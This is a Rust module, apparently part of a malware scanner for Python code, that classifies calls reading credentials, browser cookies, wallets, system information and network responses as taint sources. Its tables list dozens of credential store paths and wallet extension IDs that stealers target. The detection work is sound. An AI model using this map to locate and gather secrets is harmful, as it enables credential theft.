//! Where sensitive or untrusted data enters the code. Shared by the secrets detector (WH140) and
//! the flow tracker (WH200); emits no findings of its own.

use std::sync::LazyLock;

use regex::Regex;
use ruff_python_ast::{Expr, ExprCall};

use crate::walker::{Checker, SourceKind};

/// Environment variable names that hold credentials.
static SECRET_ENV: LazyLock<Regex> = crate::static_regex!(
    r"(?i)(TOKEN|SECRET|PASSW|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|CREDENTIAL|AUTH|SESSION|COOKIE|WEBHOOK)"
);

/// Credential stores, as sequences of path components (lower case, `/`-separated). A store
/// matches only as whole components, so `x-fontdata` or a regex mentioning "atomic" do not.
const SECRET_PATHS: &[(&str, &str)] = &[
    (".ssh/id_rsa", "SSH private key"),
    (".ssh/id_ed25519", "SSH private key"),
    (".ssh/id_ecdsa", "SSH private key"),
    (".ssh", "SSH directory"),
    (".aws/credentials", "AWS credentials file"),
    (".aws", "AWS configuration directory"),
    (".pypirc", "PyPI credentials file"),
    (".netrc", "netrc credentials"),
    (".git-credentials", "git credentials"),
    (".docker/config.json", "Docker registry credentials"),
    (".kube/config", "Kubernetes credentials"),
    (".config/gcloud", "Google Cloud credentials"),
    (".config/gh/hosts.yml", "GitHub CLI token"),
    (".npmrc", "npm registry token"),
    (".cargo/credentials.toml", "Cargo registry token"),
    (".cargo/credentials", "Cargo registry token"),
    (".gem/credentials", "RubyGems API key"),
    (
        ".terraform.d/credentials.tfrc.json",
        "Terraform Cloud token",
    ),
    (".vault-token", "HashiCorp Vault token"),
    (".pgpass", "PostgreSQL passwords"),
    (
        ".config/rclone/rclone.conf",
        "rclone cloud-storage credentials",
    ),
    (".azure", "Azure CLI credentials"),
    (".gnupg", "GnuPG keyring"),
    (".password-store", "pass password store"),
    (".local/share/keyrings", "GNOME keyring"),
    // A signing tool loads the keypair and sends only signatures, so this is not a
    // high-value store of `secrets_access`; sent out early it is theft all the same.
    (".config/solana/id.json", "Solana keypair"),
    (".sui/sui_config/sui.keystore", "Sui keystore"),
    (".bash_history", "shell history"),
    (".zsh_history", "shell history"),
    ("etc/shadow", "system password hashes"),
    (
        "var/run/secrets/kubernetes.io/serviceaccount",
        "Kubernetes service-account token",
    ),
    (
        "run/secrets/kubernetes.io/serviceaccount",
        "Kubernetes service-account token",
    ),
    ("discord/local storage", "Discord token storage"),
    ("discordcanary/local storage", "Discord token storage"),
    ("discordptb/local storage", "Discord token storage"),
    ("local storage/leveldb", "browser or Discord token storage"),
    ("telegram desktop/tdata", "Telegram session"),
    ("wallet.dat", "cryptocurrency wallet"),
    ("exodus/exodus.wallet", "Exodus wallet"),
    ("electrum/wallets", "Electrum wallet"),
    ("atomic/local storage", "Atomic wallet"),
    (
        "nkbihfbeogaeaoehlefnkodbefgpgknn",
        "MetaMask wallet extension",
    ),
    (
        "bfnaelmomeimhlpmgjnjophhpkkoljpa",
        "Phantom wallet extension",
    ),
    (
        "hnfanknocfeofbddgcijnmhnfnkdnaad",
        "Coinbase wallet extension",
    ),
    (
        "fhbohimaelbohpjbbldcngcnapndodjp",
        "Binance wallet extension",
    ),
    (
        "ibnejdfjmmkpcnlpebklmnkoeoihofec",
        "TronLink wallet extension",
    ),
    ("egjidjbpglichdcondbcbdnbeeppgdph", "Trust wallet extension"),
    ("fnjhmkhhmkbjkkabndcnnogagogbneec", "Ronin wallet extension"),
    ("ethereum/keystore", "Ethereum keystore"),
    ("coinomi/wallets", "Coinomi wallet"),
    ("guarda/local storage", "Guarda wallet"),
    ("com.liberty.jaxx", "Jaxx wallet"),
    ("steam/config/loginusers.vdf", "Steam logins"),
    ("steam/config", "Steam configuration and sessions"),
    ("signal/sql", "Signal messages"),
    ("signal/config.json", "Signal key"),
    ("winauth", "WinAuth authenticator"),
    (".minecraft/launcher_accounts.json", "Minecraft accounts"),
    // Game launchers keep a remember-me login that opens the account and its purchases.
    (
        "epicgameslauncher/saved/config/windows/gameusersettings.ini",
        "Epic Games launcher login",
    ),
    ("ubisoft game launcher/user.dat", "Ubisoft launcher login"),
    ("growtopia/save.dat", "Growtopia saved login"),
    (
        "riot games/riot client/data/riotgamesprivatesettings.yaml",
        "Riot Games session",
    ),
    (
        "battle.net/battle.net.config",
        "Battle.net account settings",
    ),
    (
        "roblox/robloxstudiobrowser/roblox.com",
        "Roblox login cookie (Roblox Studio)",
    ),
    (".electrum/wallets", "Electrum wallet"),
    ("login.keychain-db", "macOS keychain"),
    ("library/cookies/cookies.binarycookies", "Safari cookies"),
    (
        "etc/networkmanager/system-connections",
        "NetworkManager Wi-Fi and VPN passwords",
    ),
    ("filezilla/recentservers.xml", "FileZilla saved logins"),
    ("filezilla/sitemanager.xml", "FileZilla saved logins"),
    // Developer and cloud tools' tokens.
    (".kaggle/kaggle.json", "Kaggle API key"),
    ("huggingface/token", "Hugging Face token"),
    (".oci/config", "Oracle Cloud credentials"),
    (".config/doctl/config.yaml", "DigitalOcean token"),
    (".databrickscfg", "Databricks token"),
    (".config/hcloud/cli.toml", "Hetzner Cloud token"),
    (".aliyun/config.json", "Alibaba Cloud credentials"),
    (".m2/settings.xml", "Maven repository credentials"),
    (".gradle/gradle.properties", "Gradle repository credentials"),
    ("nuget/nuget.config", "NuGet feed credentials"),
    (".composer/auth.json", "Composer repository credentials"),
    ("github-copilot/hosts.json", "GitHub Copilot token"),
    ("github-copilot/apps.json", "GitHub Copilot token"),
    (".config/glab-cli/config.yml", "GitLab CLI token"),
    // AI coding assistants keep their account logins and API keys in the home folder.
    (".claude/.credentials.json", "Claude Code login"),
    (".codex/auth.json", "OpenAI Codex CLI login"),
    (".gemini/oauth_creds.json", "Gemini CLI login"),
    // Their settings hold API keys too: environment blocks, provider keys, MCP servers.
    ("/.claude.json", "Claude Code account and MCP settings"),
    (
        ".claude/settings.json",
        "Claude Code settings (API keys in its environment block)",
    ),
    (".continue/config.json", "Continue assistant API keys"),
    ("/.aider.conf.yml", "aider API keys"),
    // DBeaver keeps saved database passwords under a fixed, published key.
    (
        ".dbeaver/credentials-config.json",
        "DBeaver saved database passwords",
    ),
    // The user's own papers, directly under home (`~` is an empty component once
    // normalised): nothing a library reads while loading.
    ("/documents", "the user's documents"),
    ("/desktop", "files on the user's desktop"),
    // OpenVPN profiles carry the client's certificate and key, often its password too.
    ("openvpn", "OpenVPN profiles"),
    // Editors keep their sign-ins (GitHub, Microsoft, extension tokens) in one database, and
    // AI clients keep MCP servers' API keys in their configuration.
    ("user/globalstorage/state.vscdb", "editor sign-in tokens"),
    (".cursor/mcp.json", "MCP server API keys"),
    ("claude/claude_desktop_config.json", "MCP server API keys"),
    ("windsurf/mcp_config.json", "MCP server API keys"),
    (".purple/accounts.xml", "Pidgin saved passwords"),
    (
        ".thunderbird",
        "Thunderbird profiles (saved mail passwords)",
    ),
    (
        "thunderbird/profiles",
        "Thunderbird profiles (saved mail passwords)",
    ),
    ("bitwarden/data.json", "Bitwarden vault"),
    // Registry keys of file-transfer clients' saved sessions (passwords recoverable).
    ("martin prikryl/winscp 2/sessions", "WinSCP saved sessions"),
    ("simontatham/putty/sessions", "PuTTY saved sessions"),
];

/// Files of browser profiles, which count only under a browser's folder.
const BROWSER_FILES: &[(&str, &str)] = &[
    ("login data", "browser saved passwords"),
    ("web data", "browser autofill data"),
    ("local state", "browser encryption key"),
    ("cookies", "browser cookies"),
    ("cookies.sqlite", "browser cookies"),
    ("logins.json", "browser saved passwords"),
    ("key4.db", "browser password key"),
    ("history", "browser history"),
];

const BROWSER_DIRS: &[&str] = &[
    "google",
    "google-chrome",
    "google-chrome-beta",
    "chrome",
    "chromium",
    "brave-browser",
    "bravesoftware",
    "microsoft/edge",
    "opera software",
    "yandex",
    "vivaldi",
    "mozilla",
    ".mozilla",
    "firefox",
    "microsoft-edge",
    "user data",
    "profiles",
    // Thunderbird keeps its saved mail passwords in Firefox's stores.
    "thunderbird",
    ".thunderbird",
];

/// `/component/` forms of [`SECRET_PATHS`] and [`BROWSER_DIRS`], built once.
static SECRET_NEEDLES: LazyLock<Vec<(String, &'static str)>> = LazyLock::new(|| {
    SECRET_PATHS
        .iter()
        .map(|(needle, label)| (format!("/{needle}/"), *label))
        .collect()
});
static BROWSER_NEEDLES: LazyLock<Vec<String>> =
    LazyLock::new(|| BROWSER_DIRS.iter().map(|dir| format!("/{dir}/")).collect());

/// The first component of every [`SECRET_PATHS`] and [`BROWSER_DIRS`] entry. Each component of
/// the normalised path in [`secret_path_label`] is a substring of the ASCII-lowercased text, and
/// every match needs an entry's first component to be one of them; so a text holding none of
/// these (ASCII case ignored) names no store, and one scan rejects most path-like literals.
static FIRST_COMPONENTS: LazyLock<Option<aho_corasick::AhoCorasick>> = LazyLock::new(|| {
    let entries = SECRET_PATHS
        .iter()
        .map(|(needle, _)| *needle)
        .chain(BROWSER_DIRS.iter().copied());
    aho_corasick::AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(entries.map(|entry| {
            let entry = entry.trim_start_matches('/');
            entry.split('/').next().unwrap_or(entry)
        }))
        .ok()
});

/// False when `text` can name no store of [`secret_path_label`] (see [`FIRST_COMPONENTS`]).
fn may_name_a_store(text: &str) -> bool {
    FIRST_COMPONENTS
        .as_ref()
        .is_none_or(|components| components.is_match(text))
}

/// True when `text` holds one of the browser-extension IDs (32 lower-case letters) of
/// [`SECRET_PATHS`].
fn names_extension_id(text: &str) -> bool {
    // Picked out of the table once: this runs for most string literals of every file.
    static EXTENSION_IDS: LazyLock<Vec<&'static str>> = LazyLock::new(|| {
        SECRET_PATHS
            .iter()
            .map(|(needle, _)| *needle)
            .filter(|needle| needle.len() == 32 && needle.bytes().all(|b| b.is_ascii_lowercase()))
            .collect()
    });
    EXTENSION_IDS.iter().any(|id| text.contains(id))
}

/// The credential store named in a path-like string, if any.
pub fn secret_path_label(text: &str) -> Option<&'static str> {
    // URLs name endpoints, not files on this machine (WH160 judges those); regexes and prose
    // mention words, not paths.
    // One pass over the bytes (this runs for every string literal of every file): prose and
    // regexes out, and most literals, which are not paths at all, before any normalising.
    if text.len() > 400 {
        return None;
    }
    if let Some(label) = other_process_secret(text) {
        return Some(label);
    }
    // `C:\Program Files (x86)\Steam`: the one parenthesis a Windows path commonly holds.
    let unbracketed;
    let text = if text.contains("(x86)") {
        unbracketed = text.replace("(x86)", "x86");
        unbracketed.as_str()
    } else {
        text
    };
    // Most literals are no path: two vectorised searches settle them before any byte loop.
    let bytes = text.as_bytes();
    let separator = memchr::memchr2(b'/', b'\\', bytes).is_some();
    // Wallet extensions are named by their store IDs alone, which need no separator.
    let path_like =
        separator || text.starts_with(['.', '~']) || (text.len() >= 32 && names_extension_id(text));
    if !path_like
        || bytes
            .iter()
            .any(|b| matches!(b, b'\n' | b'(' | b'<' | b'^' | b'|' | b'*' | b'$'))
        || text.contains("://")
    {
        return None;
    }
    if !may_name_a_store(text) {
        return None;
    }
    let normalized = normalized_path(text);
    let components: Vec<&str> = path_components(&normalized).collect();
    let joined = format!("/{}/", components.join("/"));
    if let Some((_, label)) = SECRET_NEEDLES
        .iter()
        .find(|(needle, _)| joined.contains(needle.as_str()))
    {
        return Some(label);
    }
    if in_browser_dir(&joined)
        && let Some((_, label)) = BROWSER_FILES
            .iter()
            .find(|(file, _)| components.contains(file))
    {
        return Some(label);
    }

    None
}

/// A browser's whole profile folder (`…/Chrome/User Data`, `…/Default`, `Profile 2`), which
/// holds every store of [`BROWSER_FILES`]. Cookie readers name such folders to find one file
/// in them; only archiving the folder whole takes everything.
pub fn browser_profile_folder(path: &str) -> Option<&'static str> {
    let normalized = normalized_path(path);
    let components: Vec<&str> = path_components(&normalized)
        .filter(|c| !c.is_empty())
        .collect();
    let joined = format!("/{}/", components.join("/"));
    let last = components.last()?;
    (in_browser_dir(&joined)
        && (matches!(*last, "default" | "user data") || last.starts_with("profile ")))
    .then_some("browser profile")
}

/// A path lower-cased with `/` separators.
fn normalized_path(text: &str) -> String {
    text.to_ascii_lowercase().replace('\\', "/")
}

/// The components of a [`normalized_path`] without home and variable markers (`~`,
/// `%APPDATA%`) or padding; the home directory's `~` becomes an empty component.
fn path_components(normalized: &str) -> impl Iterator<Item = &str> {
    normalized
        .split('/')
        .map(|c| c.trim_matches(['%', '~', ' ']))
}

/// True when components joined as `/a/b/` lie in a browser's folder ([`BROWSER_DIRS`]).
fn in_browser_dir(joined: &str) -> bool {
    BROWSER_NEEDLES
        .iter()
        .any(|dir| joined.contains(dir.as_str()))
}

/// The source label of a read of `path` when it lies in a credential store:
/// `SSH private key (~/.ssh/id_rsa)`.
pub fn store_source_label(path: &str) -> Option<String> {
    let label = secret_path_label(path)?;
    Some(format!("{label} ({})", crate::text::shorten(path, 60)))
}

/// True for the name of a browser profile's credential file (`Login Data`, `key4.db`).
pub fn is_browser_profile_file(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    BROWSER_FILES.iter().any(|(file, _)| *file == name)
}

/// True for an environment variable name that usually holds a credential.
pub fn is_secret_env(name: &str) -> bool {
    SECRET_ENV.is_match(name)
}

const SYSTEM_INFO: &[(&str, &str)] = &[
    ("socket.gethostname", "host name"),
    ("platform.node", "host name"),
    ("platform.uname", "system details"),
    ("platform.platform", "system details"),
    ("os.uname", "system details"),
    ("getpass.getuser", "user name"),
    ("os.getlogin", "user name"),
    ("os.getcwd", "working directory"),
    ("uuid.getnode", "MAC address"),
    ("socket.gethostbyname", "IP address"),
    ("pyperclip.paste", "clipboard contents"),
    ("win32clipboard.GetClipboardData", "clipboard contents"),
    ("PIL.ImageGrab.grab", "screenshot"),
    ("ImageGrab.grab", "screenshot"),
    ("pyautogui.screenshot", "screenshot"),
    ("mss.mss().grab", "screenshot"),
    ("mss.mss().shot", "screenshot"),
    ("mss.mss().save", "screenshot"),
    ("pyscreenshot.grab", "screenshot"),
    ("cv2.VideoCapture", "camera image"),
    ("sounddevice.rec", "microphone recording"),
    ("pyaudio.PyAudio().open", "microphone recording"),
];

/// Libraries whose only job is to read a browser's saved cookies (and with them the sessions
/// they log in): `browser_cookie3.chrome()`, `rookiepy.load()`. A downloader uses them to reach
/// a site as its user; sent anywhere else they are a stolen login.
fn reads_browser_cookies(qualname: &str) -> bool {
    let Some((library, browser)) = qualname.split_once('.') else {
        return false;
    };
    matches!(library, "browser_cookie3" | "rookiepy" | "pycookiecheat")
        && matches!(
            browser,
            "load"
                | "chrome"
                | "chromium"
                | "firefox"
                | "edge"
                | "brave"
                | "opera"
                | "opera_gx"
                | "vivaldi"
                | "safari"
                | "librewolf"
                | "arc"
                | "chrome_cookies"
                | "firefox_cookies"
                | "chromium_based"
                | "firefox_based"
        )
}

/// `/proc/<pid>/mem` or `/proc/<pid>/environ` of a process other than this one (the pid may be
/// unknown: `f"/proc/{pid}/mem"`): another program's memory or environment, where CI runners
/// keep their masked secrets and services their keys.
fn other_process_secret(path: &str) -> Option<&'static str> {
    // The pid part may be a listed entry's whole path (`for pid in os.listdir('/proc')` is
    // known as `/proc/…`), so only its ends are read.
    let rest = path.strip_prefix("/proc/")?;
    let (pid, file) = rest.rsplit_once('/')?;
    let pid = pid.trim_matches('/');
    if pid.is_empty() || pid.ends_with("self") || pid.ends_with("thread-self") {
        return None;
    }
    match file {
        "mem" => Some("memory of another process"),
        "environ" => Some("environment of another process"),
        _ => None,
    }
}

/// How the label of a message handed to a chat bot's or websocket's handler starts (see
/// `Checker::message_handler_of`): a command from whoever talks to the bot.
pub const HANDLER_MESSAGE: &str = "a message received by the ";

/// How the label of data a decoder unwrapped from a constant starts (`data decoded by
/// base64.b64decode`).
pub const DECODED_DATA: &str = "data decoded by ";

/// How the label of environment variables picked by credential words in their names starts
/// (see [`credential_picking`]).
pub const PICKED_CREDENTIALS: &str =
    "environment variables picked by credential words in their names (";

/// Words a filter over variable names tests for when it picks credentials.
const CREDENTIAL_NAME_WORDS: [&str; 8] = [
    "TOKEN", "SECRET", "KEY", "PASS", "PWD", "CRED", "AUTH", "COOKIE",
];

/// The credential words `conditions` keep the environment's variables by, when `iterable`
/// walks the environment: a comprehension's `if`s (`{k: v for k, v in os.environ.items() if
/// k.endswith(("_TOKEN", "_KEY"))}`), or the test of the `if` that is a `for` loop's whole
/// body (`for k, v in os.environ.items(): if "TOKEN" in k: found[k] = v`), as written.
/// Code that wants one setting reads it by name and code that reports its environment drops
/// the secrets (`if "TOKEN" not in k`); keeping only the variables whose names say they are
/// secrets is gathering every credential the machine holds, whatever it is called.
pub fn credential_picking(
    checker: &Checker,
    iterable: &Expr,
    conditions: &[Expr],
) -> Option<String> {
    let over_environment = match iterable {
        Expr::Call(call) if call.arguments.is_empty() => matches!(
            checker.qualname(&call.func).as_deref(),
            Some("os.environ.items" | "os.environ.keys" | "os.environ.copy().items")
        ),
        other => checker.qualname(other).as_deref() == Some("os.environ"),
    };
    if !over_environment || conditions.is_empty() {
        return None;
    }
    let mut words: Vec<String> = Vec::new();
    for condition in conditions.iter().take(4) {
        if negates(condition) {
            return None;
        }
        let mut stack: Vec<&Expr> = vec![condition];
        let mut seen = 0;
        while let Some(expr) = stack.pop() {
            seen += 1;
            if seen > 256 {
                break;
            }
            if negates(expr) {
                return None;
            }
            let texts: Vec<String> = match checker.fold(expr) {
                Some(crate::fold::Value::Str(text)) => vec![text],
                Some(crate::fold::Value::Seq(items)) => items
                    .iter()
                    .filter_map(crate::fold::Value::as_text)
                    .collect(),
                _ => Vec::new(),
            };
            for text in texts.iter().take(32) {
                let upper = text.to_ascii_uppercase();
                if text.len() <= 32
                    && CREDENTIAL_NAME_WORDS
                        .iter()
                        .any(|word| upper.contains(word))
                    && !words.contains(text)
                    && words.len() < 6
                {
                    words.push(text.clone());
                }
            }
            if texts.is_empty() {
                push_condition_parts(expr, &mut stack);
            }
        }
    }
    (!words.is_empty()).then(|| words.join(", "))
}

/// The parts of a name test that can hold the words it tests for:
/// `any(w in k.upper() for w in WORDS)`, `k.endswith(("_TOKEN", "_KEY")) or "PASS" in k`.
fn push_condition_parts<'e>(expr: &'e Expr, stack: &mut Vec<&'e Expr>) {
    match expr {
        Expr::BoolOp(operation) => stack.extend(operation.values.iter()),
        Expr::Compare(compare) => {
            stack.push(&compare.left);
            stack.extend(compare.comparators.iter());
        }
        Expr::Call(call) => {
            stack.push(&call.func);
            stack.extend(call.arguments.args.iter());
        }
        Expr::Attribute(attribute) => stack.push(&attribute.value),
        Expr::Tuple(tuple) => stack.extend(tuple.elts.iter()),
        Expr::List(list) => stack.extend(list.elts.iter()),
        Expr::Set(set) => stack.extend(set.elts.iter()),
        Expr::Generator(generator) => {
            stack.push(&generator.elt);
            for inner in &generator.generators {
                stack.push(&inner.iter);
                stack.extend(inner.ifs.iter());
            }
        }
        _ => {}
    }
}

/// `not …`, `… not in …`, `… != …`: a test that drops what matches.
fn negates(expr: &Expr) -> bool {
    use ruff_python_ast::{CmpOp, UnaryOp};
    match expr {
        Expr::UnaryOp(operation) => operation.op == UnaryOp::Not,
        Expr::Compare(compare) => compare
            .ops
            .iter()
            .any(|op| matches!(op, CmpOp::NotIn | CmpOp::NotEq | CmpOp::IsNot)),
        _ => false,
    }
}

/// How the label of environment variables read in one loop that hold the credentials of
/// several services starts (`for k in ("GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY",
/// "OPENAI_API_KEY"): os.environ.get(k)`).
pub const SERVICE_CREDENTIALS: &str = "environment variables holding the credentials of ";

/// Services whose credentials one loop gathers before the gathering says theft: a client of
/// one service tries its two or three spellings (`GH_TOKEN`, `GITHUB_TOKEN`), and a tool
/// working with two services reads both, but nothing sends one host the keys of three.
const SERVICES_GATHERED: usize = 3;

/// Spellings of one service's variables, mapped to the service (`GH_TOKEN` is GitHub's,
/// `TWINE_PASSWORD` PyPI's).
const SERVICE_ALIASES: [(&str, &str); 8] = [
    ("GH", "GITHUB"),
    ("TWINE", "PYPI"),
    ("NODE", "NPM"),
    ("CI", "GITLAB"),
    ("HUGGINGFACE", "HF"),
    ("HUGGING", "HF"),
    ("GCP", "GOOGLE"),
    ("ARM", "AZURE"),
];

/// How many services the credential variables among `names` belong to, told by the first word
/// of each name (`AWS_SECRET_ACCESS_KEY` is AWS's).
fn credential_services(names: &[String]) -> usize {
    let mut services: Vec<&str> = Vec::new();
    for name in names.iter().take(256).filter(|name| is_secret_env(name)) {
        let word = name.split('_').next().unwrap_or(name);
        let service = SERVICE_ALIASES
            .iter()
            .find(|(alias, _)| alias.eq_ignore_ascii_case(word))
            .map_or(word, |(_, service)| *service);
        // `TOKEN`, `SECRET_KEY`: a generic name says no service.
        if name.contains('_')
            && !CREDENTIAL_NAME_WORDS
                .iter()
                .any(|generic| word.eq_ignore_ascii_case(generic))
            && !services.iter().any(|s| s.eq_ignore_ascii_case(service))
        {
            services.push(service);
        }
    }
    services.len()
}

/// How the label of a value taken from the web request a Flask route is serving starts:
/// whatever a visitor of the server sends.
pub const WEB_REQUEST: &str = "a value of the web request being served (";

/// How a web request source's label says its handler checks who calls (see
/// `Checker::requires_authentication`).
pub const BEHIND_AUTHENTICATION: &str = ", behind authentication";

/// True when module text compares a secret in constant time (`hmac.compare_digest`,
/// `secrets.compare_digest`), as a server authenticating its callers does.
pub fn compares_secrets(text: &str) -> bool {
    text.contains("compare_digest(")
}

/// True when the web request of `label` is authenticated: its handler requires a login, an
/// auth dependency or a token, as a remote console or admin endpoint that is a feature must;
/// web shells answer anyone.
pub fn authenticates_requests(checker: &Checker, label: &str) -> bool {
    label.starts_with(WEB_REQUEST)
        && (label.contains(BEHIND_AUTHENTICATION) || compares_secrets(checker.text))
}

/// `flask.request.args.get('c')`, `flask.request.form['c']`, `flask.request.get_json()`: what a
/// visitor of the server sent, as `flask.request.<part>` names it (call or attribute).
fn web_request_value(qualname: &str) -> Option<(String, SourceKind)> {
    let rest = qualname.strip_prefix("flask.request.")?;
    let part = rest.split('.').next().unwrap_or(rest);
    matches!(
        part,
        "args"
            | "form"
            | "values"
            | "data"
            | "json"
            | "get_json"
            | "get_data"
            | "cookies"
            | "files"
    )
    .then(|| (format!("{WEB_REQUEST}{qualname})"), SourceKind::Network))
}

/// How the label of a network response ends when the address it came from is computed at
/// run time (see [`classify_call`]).
pub const FROM_COMPUTED_ADDRESS: &str = " from an address computed at run time";

/// Suffix of a network response's label when its address is a reserved name that never
/// resolves (`example.invalid`, `*.test`, `example.com`; RFC 2606 and 6761).
pub const FROM_RESERVED_HOST: &str = " from a reserved example host";

/// True when `url`'s host is a reserved documentation or test name.
pub fn is_reserved_host_url(url: &str) -> bool {
    let Some(rest) = url
        .strip_prefix("http://")
        .or_else(|| url.strip_prefix("https://"))
    else {
        return false;
    };
    let host = rest.split(['/', ':', '?', '#']).next().unwrap_or(rest);
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    [".invalid", ".test", ".example", ".localhost"]
        .iter()
        .any(|tld| host.ends_with(tld))
        || ["invalid", "example.com", "example.org", "example.net"]
            .iter()
            .any(|name| host == *name || host.ends_with(&format!(".{name}")))
}

/// A glob pattern as a partly known path: its wildcards are the unknown parts
/// (`~/.ssh/*` → `~/.ssh/…`).
pub fn glob_path(pattern: &str) -> String {
    pattern.replace(['*', '?'], crate::fold::UNKNOWN)
}

/// A call that reads sensitive or untrusted data.
pub fn classify_call(
    checker: &Checker,
    qualname: &str,
    call: &ExprCall,
) -> Option<(String, SourceKind)> {
    let first = call.arguments.args.first();
    if matches!(
        qualname,
        "os.getenv" | "os.environ.get" | "os.environ.__getitem__" | "os.getenvb"
    ) {
        return secret_env_read(checker, first?);
    }
    if matches!(
        qualname,
        "os.environ.copy"
            | "dict"
            | "os.environ.items"
            | "os.environ.keys"
            | "os.environ.values"
            | "os.environb.copy"
            | "os.environb.items"
            | "os.environb.values"
    ) && (qualname.starts_with("os.environ")
        || first
            .and_then(|a| checker.qualname(a))
            .is_some_and(|q| q == "os.environ" || q == "os.environb"))
    {
        return Some(("the whole environment".to_owned(), SourceKind::Environment));
    }
    // `r = requests.get(metadata_token_url)`: the response object holds the credentials.
    if matches!(
        qualname,
        "requests.get"
            | "requests.request"
            | "urllib.request.urlopen"
            | "httpx.get"
            | "requests.Session().get"
            | "urllib3.PoolManager().request"
    ) && let Some(url) =
        super::network::target_arg(call).and_then(|target| super::partial_text(checker, target))
        && let Some(what) = cloud_credentials_endpoint(&url)
    {
        return Some((
            format!("{what} ({})", crate::text::shorten(&url, 80)),
            SourceKind::Secret,
        ));
    }
    // The cloud SDKs' own credential chains: whatever keys the machine holds, resolved.
    if matches!(
        qualname,
        "boto3.Session().get_credentials"
            | "boto3.session.Session().get_credentials"
            | "botocore.session.get_session().get_credentials"
            | "boto3.Session().get_credentials().get_frozen_credentials"
            | "google.auth.default"
    ) {
        return Some((
            "the cloud credentials the SDK resolves".to_owned(),
            SourceKind::Secret,
        ));
    }
    if let Some(command) = command_of_output(checker, qualname, call) {
        if let Some(shown) = listed_command(&command, CREDENTIAL_COMMANDS) {
            return Some((
                format!("credentials printed by `{shown}`"),
                SourceKind::Secret,
            ));
        }
        if let Some(shown) = listed_command(&command, RECON_COMMANDS) {
            return Some((format!("output of `{shown}`"), SourceKind::SystemInfo));
        }
    }
    // `winreg.OpenKey(HKEY_CURRENT_USER, r"Software\Martin Prikryl\WinSCP 2\Sessions")`:
    // a key where a client keeps its saved logins; what is read under it is those logins.
    if matches!(
        qualname,
        "winreg.OpenKey" | "winreg.OpenKeyEx" | "_winreg.OpenKey" | "_winreg.OpenKeyEx"
    ) && let Some(label) = call
        .arguments
        .args
        .get(1)
        .or_else(|| super::keyword(call, "sub_key"))
        .and_then(|key| super::partial_text(checker, key))
        .and_then(|key| secret_path_label(&key))
    {
        return Some((format!("the registry's {label}"), SourceKind::Secret));
    }
    // The same store through ctypes (`windll.advapi32.CredEnumerateW(None, 0, byref(n), …)`).
    if let Some(function) = qualname.rsplit('.').next()
        && matches!(
            function,
            "CredEnumerateW" | "CredEnumerateA" | "CredReadW" | "CredReadA"
        )
        && qualname.contains("advapi32")
    {
        return Some((
            format!("Windows Credential Manager entries ({function} through ctypes)"),
            SourceKind::Secret,
        ));
    }
    // A cluster's secrets read with the kubeconfig's rights: every namespace's tokens,
    // registry logins and keys.
    if qualname.starts_with("kubernetes.client.")
        && let Some(function) = qualname.rsplit('.').next()
        && matches!(
            function,
            "list_secret_for_all_namespaces" | "list_namespaced_secret" | "read_namespaced_secret"
        )
    {
        return Some((
            format!("Kubernetes secrets ({function})"),
            SourceKind::Secret,
        ));
    }
    if matches!(qualname, "win32cred.CredEnumerate" | "win32cred.CredRead") {
        return Some((
            format!("Windows Credential Manager entries ({qualname})"),
            SourceKind::Secret,
        ));
    }
    if matches!(
        qualname,
        "keyring.get_password" | "keyring.get_credential" | "keyring.core.get_password"
    ) {
        return Some((
            format!("a password from the system keyring ({qualname})"),
            SourceKind::Secret,
        ));
    }
    if let Some(source) = named_reader(qualname) {
        return Some(source);
    }
    if matches!(
        qualname,
        "open"
            | "io.open"
            | "codecs.open"
            | "shutil.copy"
            | "shutil.copyfile"
            | "shutil.copy2"
            | "shutil.copytree"
            | "sqlite3.connect"
            | "glob.glob"
            | "os.listdir"
            | "os.walk"
            | "os.scandir"
    ) {
        // `open(os.path.join(ssh_dir, name))` opens a file under `~/.ssh/` whatever its name:
        // the known parts of a path say which store it is in. A glob's wildcards are such
        // unknown parts too.
        // `for pattern in ('~/Documents/*.pdf', …): glob.glob(pattern)`: the path is one of
        // the stores the loop's constant list names.
        let listed_store = || {
            path_name_answer(first?, 3, &|name| checker.scopes.taint_of(name))
                .and_then(|index| checker.sources.get(index))
                .filter(|source| source.kind == SourceKind::Secret)
                .map(|source| (source.label.clone(), SourceKind::Secret))
                .or_else(|| listed_in_comprehension(checker, first?))
        };
        let Some(path) = first.and_then(|first| super::partial_text(checker, first)) else {
            return listed_store();
        };
        let path = if qualname == "glob.glob" {
            glob_path(&path)
        } else {
            path
        };
        // The process's own environment, read as a file: `os.environ` by another name.
        if matches!(
            path.as_str(),
            "/proc/self/environ" | "/proc/thread-self/environ"
        ) {
            return Some((
                format!("the whole environment ({path})"),
                SourceKind::Environment,
            ));
        }
        return store_source_label(&path)
            .map(|label| (label, SourceKind::Secret))
            .or_else(listed_store);
    }
    // `shutil.make_archive(base, 'zip', root_dir='~/.ssh')`: the archive holds the store.
    if qualname == "shutil.make_archive"
        && let Some(root) = super::keyword(call, "root_dir").or_else(|| call.arguments.args.get(2))
        && let Some(path) = super::partial_text(checker, root)
        && let Some(label) = secret_path_label(&path).or_else(|| browser_profile_folder(&path))
    {
        return Some((
            format!("{label} ({}), archived", crate::text::shorten(&path, 60)),
            SourceKind::Secret,
        ));
    }
    // A smart contract's storage is a dead drop no registry can take down: `contract.functions
    // .get().call()` reads whatever its owner last wrote there from a public RPC node.
    if qualname.starts_with("web3.")
        && (qualname.contains(".functions.") && qualname.ends_with(".call")
            || qualname.ends_with(".eth.call")
            || qualname.ends_with(".eth.get_storage_at")
            || qualname.ends_with(".eth.get_transaction"))
    {
        return Some((
            format!("a value read from a blockchain ({qualname})"),
            SourceKind::Network,
        ));
    }
    if let Some(fetcher) = network_response_of(qualname) {
        // Droppers fetch their second stage from a fixed address; a tool fetches from one it
        // builds from versions, branches and its caller's arguments.
        let fetch = fetch_call_of(checker, call, fetcher);
        if fetch.is_none()
            && let Some(held) = secret_response_held(checker, &call.func)
        {
            return Some(held);
        }
        return Some(response(checker, fetcher, fetch));
    }
    // `(Path.home() / '.ssh' / 'id_rsa').read_text()`: the receiver is the path read.
    if (qualname.ends_with(".read_text") || qualname.ends_with(".read_bytes"))
        && let Expr::Attribute(method) = &*call.func
        && let Some(path) = super::partial_text(checker, &method.value)
        && let Some(label) = store_source_label(&path)
    {
        return Some((label, SourceKind::Secret));
    }
    if matches!(
        qualname,
